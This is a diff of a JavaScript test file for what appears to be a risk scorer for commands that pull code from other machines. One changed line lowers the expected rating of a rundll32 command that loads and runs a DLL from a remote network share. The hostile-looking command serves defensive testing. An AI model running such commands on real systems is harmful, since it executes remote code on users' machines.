@@ -84,7 +84,7 @@ describe("what comes from another machine", () => {
     expect(level(install("files02.example.net"))).toBe("medium");
     expect(level(install("files02.example.net@SSL"), cmd)).toBe("critical");
     expect(level(install("203.0.113.7"), cmd)).toBe("critical");
-    expect(level("rundll32 \\\\files02.example.net\\agents\\kettle.dll,Start", cmd)).toBe("high");
+    expect(level("rundll32 \\\\files02.example.net\\agents\\kettle.dll,Start", cmd)).toBe("medium");
   });
 
   it("weighs less where a ClickOnce application is published, on a server that says who it is", () => {
